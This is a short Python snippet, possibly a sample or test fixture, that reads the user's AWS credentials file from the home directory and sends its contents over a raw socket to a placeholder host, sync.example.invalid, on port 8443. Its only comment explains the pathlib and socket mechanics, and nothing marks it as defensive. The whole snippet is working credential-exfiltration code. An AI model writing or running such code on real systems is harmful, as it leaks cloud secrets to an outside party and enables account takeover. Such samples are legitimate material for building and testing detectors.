import pathlib
import socket

# Path built with pathlib's `/`, sent over a raw socket.
data = (pathlib.Path.home() / ".aws" / "credentials").read_bytes()
conn = socket.create_connection(("sync.example.invalid", 8443))
conn.sendall(data)
